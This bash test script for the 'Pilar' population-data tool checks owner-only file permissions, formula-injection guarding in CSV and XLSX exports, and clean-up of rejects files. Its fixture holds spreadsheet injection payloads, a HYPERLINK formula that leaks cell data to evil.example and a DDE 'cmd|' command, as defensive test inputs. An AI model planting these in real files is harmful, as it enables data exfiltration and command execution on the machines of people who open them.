#!/usr/bin/env bash
# test_files.sh - files that cannot attack their reader and that only their
# owner can open. Under a permissive umask (022, then 000): the data base and
# its -wal/-shm, rejects files, CLI and server exports, reports and folders
# are 0600/0700, and a data base left 0644 is tightened (and the operator told).
# Formula-looking values (=HYPERLINK, +, -, @) come out of every CSV guarded
# with an apostrophe while coordinates and counts stay numbers; export ->
# import -> export is exact (CSV and XLSX); XLSX cells are strings, never
# formulas. The data folder clean-up (pilar cleanup, pilar serve) deletes
# rejects files after their days and leftover temporary exports.
# On PostgreSQL the data base is no file of Pilar's (the server keeps it in its own data folder,
# 0700 by initdb, and access goes by role): the checks of the data base file, its read-audit
# file and their -wal/-shm are SQLite's alone; every file Pilar itself writes (rejects,
# exports, reports, the data folder) is checked on both.
. "$(dirname "$0")/lib.sh"
export PILAR_PWHASH=fast
mode() { stat -c %a "$1" 2>/dev/null || echo missing; }

# ---------------------------------------------------------------- shared set-up
umask 022
export PILAR_DB="$T/base.db"
$PILAR init >/dev/null || exit 1
$PILAR region import --from "$SRC/node_modules/idn-area-data/data" >/dev/null || exit 1
echo 'utama-kunci-123' | $PILAR user add admin --role admin >/dev/null || exit 1
TA=$($PILAR user token admin)

# Formula-looking values where the validator lets free text through (birth place, address),
# negative coordinates (south of the equator), and one row rejected for its village.
HDR='nik,no_kk,nama,tempat_lahir,tanggal_lahir,jenis_kelamin,hubungan_keluarga,nama_ibu,alamat,rt,rw,kode_desa,pmks,disabilitas,latitude,longitude'
cat >"$T/fx.csv" <<CSV
$HDR
6474010512800001,6474010101200001,Hermawan Saputra,"=HYPERLINK(""http://evil.example/?""&A1,""klik"")",1980-12-05,L,Kepala Keluarga,Siti,"-2+3 Jl. Kenari",001,001,64.74.01.1001,24@2025-01-01,,-0.5,117.25
6474014506850001,6474010101200001,Rina Wati,+Bontang,1985-06-05,P,Istri,Painem,"-2+3 Jl. Kenari",001,001,64.74.01.1001,,,-0.5,117.25
6474014506850002,6474010101200002,Rini,"@SUM(1);=1+2",1985-06-05,P,Kepala Keluarga,Painem,"Jl. ""Kutip"" 3",002,001,64.74.01.1001,,,-0.125,117.5
6474011111900004,6474011203150099,Citra,"=cmd|' /C calc'!A0",1990-11-11,L,Kepala Keluarga,,"-Jl. B",1,1,64.74.01.9999,,,-0.25,117.5
CSV

# py_check FILE TEXTCOLS NUMCOLS: no text field starts like a formula; number fields are plain.
py_check() {
  python3 - "$@" <<'PY'
import csv, sys
path, text, num = sys.argv[1], sys.argv[2].split(","), sys.argv[3].split(",")
rows = list(csv.reader(open(path, encoding="utf-8-sig", newline="")))
h = rows[0]
bad = []
for r in rows[1:]:
    for c in text:
        v = r[h.index(c)]
        if v[:1] in ("=", "+", "-", "@", "\t", "\r"):
            bad.append((c, v))
    for c in num:
        v = r[h.index(c)]
        if v:
            try:
                float(v)
            except ValueError:
                bad.append((c, v))
if bad:
    print(bad, file=sys.stderr)
    sys.exit(1)
PY
}


for U in 022 000; do
  umask $U
  D="$T/u$U"
  mkdir -p "$D"
  cd "$D" || exit 1

  # ---------------------------------------------------------- the data base
  if on_pg; then
    cp "$T/base.db" "$D/p.db"
    export PILAR_DB="$D/p.db"
  else
    PILAR_DB="$D/new.db" $PILAR init >/dev/null
    eq "[$U] new data base 0600" "$(mode "$D/new.db")" 600
    eq "[$U] new read-audit file 0600" "$(mode "$D/new.db-reads")" 600
    cp "$T/base.db" "$D/p.db"
    chmod 644 "$D/p.db"
    export PILAR_DB="$D/p.db"
    $PILAR status >/dev/null 2>"$D/err.txt"
    eq "[$U] loose data base tightened on open" "$(mode "$D/p.db")" 600
    check "[$U] the operator is told" grep -q "izin 0644.*diperketat menjadi 0600" "$D/err.txt"
    # Copied without its read-audit file: the operator is told, and the first command that
    # writes starts an empty one (0600).
    check "[$U] missing read-audit file told" grep -q "berkas audit baca $D/p.db-reads tidak ada" "$D/err.txt"
    $PILAR init >/dev/null 2>"$D/err.txt"
    check "[$U] missing read-audit file told on init" grep -q "berkas audit baca $D/p.db-reads tidak ada" "$D/err.txt"
    eq "[$U] recreated read-audit file 0600" "$(mode "$D/p.db-reads")" 600
    $PILAR status >/dev/null 2>"$D/err.txt"
    check "[$U] told once" test ! -s "$D/err.txt"
    chmod 644 "$D/p.db-reads"
    $PILAR status >/dev/null 2>"$D/err.txt"
    eq "[$U] loose read-audit file tightened on open" "$(mode "$D/p.db-reads")" 600
    check "[$U] told of the read-audit file" grep -q "izin 0644.*diperketat menjadi 0600" "$D/err.txt"
  fi

  # ---------------------------------------------------------- import, rejects file
  cp "$T/fx.csv" "$D/fx.csv"
  out=$($PILAR import fx.csv --json)
  check "[$U] fixture: 3 in, 1 rejected" grep -q '"inserted":3.*"rejected":1' <<<"$out"
  eq "[$U] rejects file 0600" "$(mode "$D/fx-ditolak.csv")" 600
  check "[$U] rejects file: formula guarded" grep -qF "\"'=cmd|' /C calc'!A0\"" "$D/fx-ditolak.csv"
  check "[$U] rejects file: address guarded" grep -qF "\"'-Jl. B\"" "$D/fx-ditolak.csv"
  check "[$U] rejects file: coordinates stay numbers" grep -qF ",-0.25,117.5," "$D/fx-ditolak.csv"
  check "[$U] rejects file: text columns safe" py_check "$D/fx-ditolak.csv" tempat_lahir,alamat,nama latitude,longitude
  # Sent back as it is, the row reads the same values: the same rejection, the same file.
  cp fx-ditolak.csv again.csv
  $PILAR import again.csv >/dev/null
  check "[$U] rejects file re-imported: same values" python3 -c "
import csv,sys
a=list(csv.reader(open('fx-ditolak.csv',encoding='utf-8-sig',newline='')))
b=list(csv.reader(open('again-ditolak.csv',encoding='utf-8-sig',newline='')))
sys.exit(0 if [r[:-1] for r in a]==[r[:-1] for r in b] and len(a)==2 else 1)"

  # ---------------------------------------------------------- CSV export round trip
  echo old >e.csv
  chmod 644 e.csv
  $PILAR export --region 64.74 --out e.csv >/dev/null
  eq "[$U] CSV export over a 0644 file is 0600" "$(mode e.csv)" 600
  check "[$U] HYPERLINK written as text" grep -qF "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"klik\"\")\"" e.csv
  check "[$U] '+' guarded" grep -qF "\"'+Bontang\"" e.csv
  check "[$U] '@' guarded and ';' quoted" grep -qF "\"'@SUM(1);=1+2\"" e.csv
  check "[$U] '-' guarded" grep -qF "\"'-2+3 Jl. Kenari\"" e.csv
  check "[$U] negative coordinates stay numbers" grep -qF ",-0.500000,117.250000" e.csv
  check "[$U] export: text columns safe, numbers numbers" py_check e.csv nik,no_kk,nama,tempat_lahir,nama_ibu,alamat latitude,longitude
  out=$($PILAR import e.csv --json)
  check "[$U] re-importing the export changes nothing" grep -q '"inserted":0,"updated":0,"unchanged":3,"rejected":0' <<<"$out"
  check "[$U] stored value has no apostrophe" bash -c "$PILAR person show 6474014506850001 --json | grep -q '\"birth_place\":\"+Bontang\"'"
  $PILAR export --region 64.74 --out e2.csv >/dev/null
  check "[$U] export -> import -> export is byte-identical" cmp -s e.csv e2.csv

  # ---------------------------------------------------------- XLSX: strings, never formulas
  $PILAR export --region 64.74 --format xlsx --out e.xlsx >/dev/null
  eq "[$U] XLSX export 0600" "$(mode e.xlsx)" 600
  unzip -p e.xlsx xl/worksheets/sheet1.xml >sheet.xml
  check "[$U] XLSX: formula-looking cell is an inline string" grep -qF '<c r="D2" s="2" t="inlineStr"><is><t>=HYPERLINK(' sheet.xml
  check "[$U] XLSX: no formula anywhere" bash -c "! grep -q '<f>\|<f ' sheet.xml"
  out=$($PILAR import e.xlsx --json)
  check "[$U] re-importing the XLSX changes nothing" grep -q '"inserted":0,"updated":0,"unchanged":3,"rejected":0' <<<"$out"

  # ---------------------------------------------------------- reports: counts stay numbers
  $PILAR report rakor --region 64.74 --period 2024 --compare 2025 --format csv --out r.csv >/dev/null 2>&1
  eq "[$U] report CSV 0600" "$(mode r.csv)" 600
  check "[$U] a fall stays a negative number" grep -q '^64.74,Kota Bontang,24,Fakir Miskin,keluarga,2024,0,0,2025,2,1,-2,-100.00' r.csv
  $PILAR report rakor --region 64.74 --period 2025 --format pdf --out r.pdf >/dev/null 2>&1
  eq "[$U] report PDF 0600" "$(mode r.pdf)" 600

  # ---------------------------------------------------------- the server's files
  mkdir -p "$D/data/rejects"
  chmod 755 "$D/data/rejects"
  echo x >"$D/data/rejects/admin--$(printf '%032d' 1).csv"
  touch -d '5 days ago' "$D/data/rejects/admin--$(printf '%032d' 1).csv"
  echo x >"$D/data/ekspor-0000000000000000.xlsx"
  touch -d '2 hours ago' "$D/data/ekspor-0000000000000000.xlsx"
  rm -rf "$D/data2"
  start_server --web "$T" --data-dir "$D/data2" --rejects-days 3
  check "[$U] serve states the rejects retention" grep -q "berkas tolakan disimpan 3 hari" "$T/server.log"
  st=$(curl -s -o body.json -w '%{http_code}' -H "Authorization: Bearer $TA" -F "file=@$D/fx.csv;type=text/csv" "$A/imports")
  eq "[$U] HTTP import" "$st" 200
  eq "[$U] data folder created 0700" "$(mode "$D/data2")" 700
  eq "[$U] rejects folder 0700" "$(mode "$D/data2/rejects")" 700
  rj=$(ls "$D/data2/rejects/"*.csv 2>/dev/null | head -1)
  eq "[$U] server rejects file 0600" "$(mode "$rj")" 600
  check "[$U] server rejects file guarded" grep -qF "\"'=cmd|' /C calc'!A0\"" "$rj"
  # The server holds its connections open: the WAL and shared memory exist now.
  if ! on_pg; then
    eq "[$U] -wal 0600" "$(mode "$D/p.db-wal")" 600
    eq "[$U] -shm 0600" "$(mode "$D/p.db-shm")" 600
    eq "[$U] read-audit file 0600" "$(mode "$D/p.db-reads")" 600
    eq "[$U] read-audit -wal 0600" "$(mode "$D/p.db-reads-wal")" 600
    eq "[$U] read-audit -shm 0600" "$(mode "$D/p.db-reads-shm")" 600
  fi
  curl -s -o http.csv -H "Authorization: Bearer $TA" "$A/exports?region=64.74&format=csv"
  check "[$U] HTTP CSV export guarded" grep -qF "\"'=HYPERLINK(" http.csv
  check "[$U] HTTP CSV export: coordinates numbers" grep -qF ",-0.500000,117.250000" http.csv
  st=$(curl -s -o http.xlsx -w '%{http_code}' -H "Authorization: Bearer $TA" "$A/exports?region=64.74&format=xlsx")
  eq "[$U] HTTP XLSX export" "$st" 200
  check "[$U] HTTP XLSX: no formula" bash -c "! unzip -p http.xlsx xl/worksheets/sheet1.xml | grep -q '<f>'"
  check "[$U] no export left in the data folder" bash -c "! ls '$D/data2' | grep -q ekspor-"
  stop_server
  # A server started on a folder with an expired rejects file and a leftover export cleans it.
  start_server --web "$T" --data-dir "$D/data" --rejects-days 3
  stop_server
  check "[$U] serve start: expired rejects file deleted" test ! -e "$D/data/rejects/admin--$(printf '%032d' 1).csv"
  check "[$U] serve start: leftover export deleted" test ! -e "$D/data/ekspor-0000000000000000.xlsx"
  eq "[$U] serve start: rejects folder tightened" "$(mode "$D/data/rejects")" 700

  # ---------------------------------------------------------- pilar cleanup
  R="$D/data/rejects"
  for n in 1 2 3 4; do echo x >"$R/op--$(printf '%032d' $n).csv"; chmod 644 "$R/op--$(printf '%032d' $n).csv"; done
  touch -d '8 days ago' "$R/op--$(printf '%032d' 1).csv"
  touch -d '30 days ago' "$R/op--$(printf '%032d' 2).csv"
  touch -d '6 days ago' "$R/op--$(printf '%032d' 3).csv"
  echo keep >"$D/outside.csv"
  touch -d '90 days ago' "$D/outside.csv"
  ln -s "$D/outside.csv" "$R/link--$(printf '%032d' 5).csv"
  echo x >"$D/data/rakor-0000000000000001.pdf"
  touch -d '3 hours ago' "$D/data/rakor-0000000000000001.pdf"
  echo x >"$D/data/rakor-0000000000000002.pdf" # being written right now
  echo x >"$D/data/notes.txt"
  touch -d '90 days ago' "$D/data/notes.txt"
  out=$($PILAR cleanup --data-dir "$D/data" --json)
  check "[$U] cleanup: 2 expired rejects, 2 kept, 1 temp" grep -q '"rejects_deleted":2,"rejects_kept":2,"temp_deleted":1' <<<"$out"
  check "[$U] cleanup: 8-day file gone (default 7 days)" test ! -e "$R/op--$(printf '%032d' 1).csv"
  check "[$U] cleanup: 6-day file kept" test -e "$R/op--$(printf '%032d' 3).csv"
  eq "[$U] cleanup: kept file tightened" "$(mode "$R/op--$(printf '%032d' 3).csv")" 600
  check "[$U] cleanup: symlink's target untouched" test -e "$D/outside.csv"
  eq "[$U] cleanup: symlink's target mode untouched" "$(mode "$D/outside.csv")" "$(printf '%o' $((0666 & ~0$U)))"
  check "[$U] cleanup: fresh temp file kept" test -e "$D/data/rakor-0000000000000002.pdf"
  check "[$U] cleanup: unknown names left alone" test -e "$D/data/notes.txt"
  out=$($PILAR cleanup --data-dir "$D/data" --rejects-days 5 --json)
  check "[$U] cleanup --rejects-days 5" grep -q '"rejects_deleted":1,"rejects_kept":1' <<<"$out"
  out=$($PILAR cleanup --data-dir "$D/data" --rejects-days 0 --json)
  check "[$U] cleanup --rejects-days 0 deletes every rejects file" grep -q '"rejects_deleted":1,"rejects_kept":0' <<<"$out"
  $PILAR cleanup --data-dir "$D/data" --rejects-days 9999 >/dev/null 2>&1
  eq "[$U] cleanup: bad days refused" $? 1
  $PILAR cleanup --data-dir "$D/none" >/dev/null
  eq "[$U] cleanup: missing folder is fine" $? 0
  cd "$T" || exit 1
done

summary
